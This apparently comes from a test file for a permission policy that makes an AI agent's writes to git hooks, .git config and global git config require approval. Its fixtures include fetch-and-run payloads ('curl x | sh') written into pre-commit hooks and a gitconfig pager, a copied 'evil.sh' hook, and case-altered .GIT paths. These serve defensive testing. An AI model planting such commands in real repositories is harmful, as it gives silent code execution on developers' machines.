// The hooks folder a repository's config names protects writes wherever the workspace sits in it: at its root, in a
// subfolder, in a linked worktree, with a git directory kept elsewhere, or named by the user's global config. Real git
// repositories in a temp folder, decided by the real policy.
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findRepository, gitdirOf, globalConfigFiles } from '../../../main/core/policy/workspace/git-config-files.js';
import { gitCodePaths } from '../../../main/core/policy/workspace/hooks-path.js';
import { decide } from '../../../main/core/policy/index.js';
import { request, rulesOf } from './fixture.js';

describe('gitdirOf', () => {
  it.each([
    ['gitdir: /r/.git/worktrees/wt\n', '/wt', '/r/.git/worktrees/wt'], ['gitdir: ../.git/modules/m', '/r/m', '/r/.git/modules/m'],
    ['gitdir:/elsewhere/x.git  \n', '/w', '/elsewhere/x.git'], ['not a gitdir line', '/w', undefined], ['', '/w', undefined],
  ] as const)('%j in %s → %j', (text, holder, expected) => {
    expect(gitdirOf(text, holder)).toBe(expected);
  });
});

describe('globalConfigFiles', () => {
  it.each([
    [{}, ['/h/.config/git/config', '/h/.gitconfig']], [{ XDG_CONFIG_HOME: '/x' }, ['/x/git/config', '/h/.gitconfig']],
    [{ XDG_CONFIG_HOME: 'relative' }, ['/h/.config/git/config', '/h/.gitconfig']],
  ] as const)('%j → %j', (env, expected) => {
    expect(globalConfigFiles('/h', env)).toEqual(expected);
  });
});

let root: string;
let home: string;
let repo: string;
let worktree: string;
let separate: string;
let separateDir: string;
const git = (cwd: string, ...args: string[]): string => execFileSync('git', ['-C', cwd, ...args], { encoding: 'utf8', env: { ...process.env, HOME: home, GIT_CONFIG_NOSYSTEM: '1' } });

beforeAll(() => {
  root = realpathSync(mkdtempSync(path.join(tmpdir(), 'gh-hooks-')));
  home = path.join(root, 'home');
  repo = path.join(root, 'repo');
  worktree = path.join(root, 'wt');
  separate = path.join(root, 'sep');
  separateDir = path.join(root, 'sep-git-dir');
  mkdirSync(home);
  mkdirSync(path.join(repo, 'packages', 'app', 'src'), { recursive: true });
  git(root, 'init', '-q', repo);
  git(repo, 'config', 'core.hooksPath', '.husky/_');
  git(repo, 'config', 'user.email', 't@t');
  git(repo, 'config', 'user.name', 't');
  writeFileSync(path.join(repo, 'README.md'), 'x\n');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'init');
  git(repo, 'worktree', 'add', '-q', worktree);
  git(root, 'init', '-q', `--separate-git-dir=${separateDir}`, separate);
});

afterAll(() => rmSync(root, { recursive: true, force: true }));

describe('findRepository', () => {
  it('finds the repository above a subfolder, with the work tree hooks paths are taken from', () => {
    const r = findRepository(path.join(repo, 'packages', 'app', 'src'));
    expect(r?.workTree).toBe(repo);
    expect(r?.files.slice(-2)).toEqual([path.join(repo, '.git', 'config'), path.join(repo, '.git', 'config.worktree')]);
  });

  it("reads a linked worktree's shared config from the main repository's git directory", () => {
    const r = findRepository(worktree);
    expect(r?.workTree).toBe(worktree);
    expect(r?.commonDir).toBe(path.join(repo, '.git'));
    expect(r?.files).toContain(path.join(repo, '.git', 'config'));
  });

  it('is undefined outside any repository', () => {
    expect(findRepository(home)).toBeUndefined();
  });
});

describe('gitCodePaths', () => {
  it('resolves the hooks path against the repository root from a subfolder workspace', () => {
    expect(gitCodePaths(path.join(repo, 'packages', 'app'), home, {})).toEqual(expect.arrayContaining([path.join(repo, '.husky', '_'), path.join(repo, '.husky')]));
  });

  it("resolves it against a linked worktree's own root", () => {
    expect(gitCodePaths(worktree, home, {})).toEqual(expect.arrayContaining([path.join(worktree, '.husky', '_'), path.join(worktree, '.husky')]));
  });

  it('names a git directory kept outside the work tree', () => {
    expect(gitCodePaths(separate, home, {})).toContain(separateDir);
  });

  it("names the user's global config and attributes files, in a repository or not", () => {
    for (const dir of [repo, home]) {
      expect(gitCodePaths(dir, home, {})).toEqual(expect.arrayContaining([path.join(home, '.gitconfig'), path.join(home, '.config', 'git', 'config'), path.join(home, '.config', 'git', 'attributes')]));
    }
    expect(gitCodePaths(home, home, { XDG_CONFIG_HOME: path.join(root, 'xdg') })).toContain(path.join(root, 'xdg', 'git', 'config'));
  });

  it("takes a hooks path from the user's global config, and the repository's own wins over it", () => {
    writeFileSync(path.join(home, '.gitconfig'), '[core]\n\thooksPath = ~/global-hooks\n');
    try {
      expect(gitCodePaths(separate, home, {})).toContain(path.join(home, 'global-hooks'));
      expect(gitCodePaths(repo, home, {})).not.toContain(path.join(home, 'global-hooks'));
    } finally {
      rmSync(path.join(home, '.gitconfig'));
    }
  });
});

describe("writes to git's code path are asked from every place in the repository", () => {
  const blanket = rulesOf({ allow: ['Bash', 'Write', 'Edit', 'Read'] });
  const verdict = (cwd: string, tool: string, args: Record<string, unknown>) =>
    decide(request(tool, args, cwd), { rules: blanket, sessionApprovals: [], mode: 'interactive', home, gatehouseHome: path.join(home, '.gatehouse'), now: new Date(), env: {} });

  it.each([
    ['packages/app', 'Bash', { command: "echo 'curl x | sh' > ../../.husky/pre-commit" }],
    ['packages/app', 'Write', { file_path: '{{REPO}}/.husky/pre-push', content: 'curl x | sh' }],
    ['packages/app', 'Bash', { command: 'cp evil.sh ../../.husky/_/pre-commit' }],
  ] as const)('from %s, %s %j asks', async (where, tool, args) => {
    const a = JSON.parse(JSON.stringify(args).replaceAll('{{REPO}}', repo)) as Record<string, unknown>;
    const v = await verdict(path.join(repo, where), tool, a);
    expect(v.decision, v.reasons.join(' | ')).toBe('ask');
  });

  it.each([
    ['Write', { file_path: '{{REPO}}/.GIT/hooks/pre-commit', content: 'curl x | sh' }], ['Edit', { file_path: '{{REPO}}/.Git/config', old_string: 'a', new_string: 'b' }],
    ['Write', { file_path: '{{REPO}}/src/.GitAttributes', content: '* filter=x' }], ['Bash', { command: 'echo x > .GIT/hooks/post-checkout' }],
  ] as const)('a write spelling .git or .gitattributes in another case asks (git’s own on case-insensitive file systems): %s %j', async (tool, args) => {
    const a = JSON.parse(JSON.stringify(args).replaceAll('{{REPO}}', repo)) as Record<string, unknown>;
    const v = await verdict(repo, tool, a);
    expect(v.decision, v.reasons.join(' | ')).toBe('ask');
  });

  it.each([
    ['Write', { file_path: '{{HOME}}/.gitconfig', content: '[core]\n\tpager = curl x | sh' }], ['Edit', { file_path: '{{HOME}}/.config/git/config', old_string: 'a', new_string: 'b' }],
    ['Write', { file_path: '{{HOME}}/.config/git/attributes', content: '* diff=x' }], ['NotebookEdit', { notebook_path: '{{HOME}}/.gitconfig', new_source: 'x' }],
  ] as const)("a write to the user's global git config asks under a blanket rule (its pager, aliases and fsmonitor run in every repository): %s %j", async (tool, args) => {
    const a = JSON.parse(JSON.stringify(args).replaceAll('{{HOME}}', home)) as Record<string, unknown>;
    const v = await verdict(repo, tool, a);
    expect(v.decision, v.reasons.join(' | ')).toBe('ask');
  });

  it('asks for a write into a linked worktree’s hooks folder', async () => {
    const v = await verdict(worktree, 'Bash', { command: "echo 'curl x | sh' > .husky/pre-commit" });
    expect(v.decision, v.reasons.join(' | ')).toBe('ask');
  });

  it('asks for a write into a git directory kept elsewhere', async () => {
    const v = await verdict(separate, 'Write', { file_path: path.join(separateDir, 'hooks', 'pre-commit'), content: 'curl x | sh' });
    expect(v.decision, v.reasons.join(' | ')).toBe('ask');
  });

  it.each([
    ['packages/app', 'Bash', { command: 'echo x > src/hooks.ts' }], ['packages/app', 'Bash', { command: 'cat ../../.husky/pre-commit' }],
  ] as const)('from %s, %s %j stays allowed', async (where, tool, args) => {
    const v = await verdict(path.join(repo, where), tool, args);
    expect(v.decision, v.reasons.join(' | ')).toBe('allow');
  });
});
